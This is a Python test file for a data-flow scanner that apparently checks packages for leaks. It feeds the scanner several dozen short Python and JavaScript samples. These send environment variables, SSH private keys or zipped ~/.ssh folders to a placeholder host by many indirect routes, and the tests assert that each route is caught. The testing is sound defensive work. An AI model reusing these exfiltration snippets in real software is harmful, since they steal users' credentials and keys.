"""What is taken arrives where it is sent, whatever lies between; each case is one way through a program."""

import pytest
from program_of import program_of

from ostiary.program.flow import Act, Taint

PYTHON: dict[str, str | dict[str, str]] = {
    "a file that only hands on": {
        "sample/__init__.py": "from . import a, b\n\nb.put(a.take())\n",
        "sample/a.py": "import os\n\n\ndef take():\n    return dict(os.environ)\n",
        "sample/b.py": "import requests as r\n\n\ndef put(x):\n"
        "    r.post('https://c.example.invalid', json=x)\n",
    },
    "a comprehension": """
d = {k: v for k, v in os.environ.items() if "KEY" in k}
requests.post(URL, json=d)
""",
    "a generator": """
def each():
    for k, v in os.environ.items():
        yield k, v
for k, v in each():
    requests.get(URL + k + "=" + v)
""",
    "a thread with arguments": """
import threading
def go(url, data):
    requests.post(url, json=data)
threading.Thread(target=go, args=(URL, dict(os.environ))).start()
""",
    "a partial function": """
import functools
send = functools.partial(requests.post, URL)
send(json=dict(os.environ))
""",
    "a decorator": """
def later(f):
    def inner(*a, **k):
        return requests.post(URL, json=f(*a, **k))
    return inner
@later
def get():
    return dict(os.environ)
get()
""",
    "mail": """
import smtplib
link = smtplib.SMTP("mail.example.invalid", 587)
link.sendmail("a@example.invalid", "b@example.invalid", str(os.environ))
""",
    "a program that is written and started": """
import subprocess, sys
with open("/tmp/a.py", "w") as f:
    f.write("import os, urllib.request as u\\n"
            "u.urlopen('https://c.example.invalid', str(os.environ).encode())")
subprocess.Popen([sys.executable, "/tmp/a.py"])
""",
}
SECRETS = {
    "a method of a path": """
from pathlib import Path
requests.post(URL, data=(Path.home() / ".ssh" / "id_rsa").read_bytes())
""",
    "files below a place of note": """
from pathlib import Path
for one in (Path.home() / ".ssh").glob("*"):
    requests.post(URL, data=one.read_bytes())
""",
    "an archive that is filled by paths": """
import zipfile
with zipfile.ZipFile("out.zip", "w") as z:
    z.write(os.path.expanduser("~/.ssh/id_rsa"))
requests.post(URL, files={"f": open("out.zip", "rb")})
""",
    "an archive of a folder": """
import shutil
shutil.make_archive("loot", "zip", os.path.expanduser("~/.ssh"))
requests.post(URL, data=open("loot.zip", "rb"))
""",
}
SCRIPTS: dict[str, str | dict[str, str]] = {
    "a default export": {
        "package.json": '{"name": "sample", "version": "1.0.0", "main": "index.mjs"}',
        "index.mjs": 'import send, { gather } from "./a.mjs";\nsend(gather());\n',
        "a.mjs": "export const gather = () => JSON.stringify(process.env);\n"
        'export default function send(t) { fetch("https://c.example.invalid", { body: t }); }\n',
    },
    "a promise after a promise": """
const all = () => JSON.stringify(process.env);
fetch(URL).then((r) => r.json()).then((x) => fetch(URL, { body: x + all() }));
""",
    "a prototype": """
function A() { this.d = process.env; }
A.prototype.go = function () { fetch(URL, { method: "POST", body: JSON.stringify(this.d) }); };
new A().go();
""",
    "a method that nothing here calls": """
class A { constructor() { this.d = process.env; } go() { fetch(URL, { body: JSON.stringify(this.d) }); } }
module.exports = A;
""",
    "call and apply": """
const request = require("https").request.apply(null, [URL, { method: "POST" }]);
request.end.call(request, JSON.stringify(process.env));
""",
    "a form": """
const form = new FormData();
form.append("all", JSON.stringify(process.env));
fetch(URL, { method: "POST", body: form });
""",
    "a set that is spread": """
const found = new Set();
for (const key of Object.keys(process.env)) found.add(process.env[key]);
fetch(URL, { method: "POST", body: [...found].join(";") });
""",
    "a result of a callback": """
const rows = require("fs").readdirSync(".").map((name) => [name, process.env]);
fetch(URL, { method: "POST", body: JSON.stringify(rows) });
""",
    "the last part of a comma": """
(0, fetch)(URL, { method: "POST", body: JSON.stringify(process.env) });
""",
}
HEAD = 'import os\nimport requests\n\nURL = "https://c.example.invalid/?"\n'


def sent(form: str, files: dict[str, str]) -> set[str]:
    """Everything that is sent anywhere."""
    acts = [one for one in program_of(form, files).flows if one.act is Act.SEND]
    return {carried.kind for one in acts for carried in one.carries}


@pytest.mark.parametrize("name", PYTHON)
def test_the_environment_arrives(name: str) -> None:
    case = PYTHON[name]
    files = case if isinstance(case, dict) else {"sample/__init__.py": HEAD + case}
    assert Taint.ENVIRONMENT in sent("wheel", files)


@pytest.mark.parametrize("name", SECRETS)
def test_secrets_arrive(name: str) -> None:
    assert Taint.SECRET in sent("wheel", {"sample/__init__.py": HEAD + SECRETS[name]})


@pytest.mark.parametrize("name", SCRIPTS)
def test_the_environment_arrives_in_javascript(name: str) -> None:
    case = SCRIPTS[name]
    head = 'const URL = "https://c.example.invalid/";\n'
    files = case if isinstance(case, dict) else {"index.js": head + case}
    assert Taint.ENVIRONMENT in sent("npm", files)


def test_what_a_digest_is_made_of_stays_here() -> None:
    code = (
        "import hashlib\nrequests.get(URL + hashlib.sha256(str(os.environ).encode()).hexdigest())\n"
    )
    assert Taint.ENVIRONMENT not in sent("wheel", {"sample/__init__.py": HEAD + code})


def test_a_child_process_gets_what_it_always_got() -> None:
    code = 'import subprocess\nsubprocess.run(["make"], env=dict(os.environ))\nrequests.get(URL)\n'
    assert Taint.ENVIRONMENT not in sent("wheel", {"sample/__init__.py": HEAD + code})
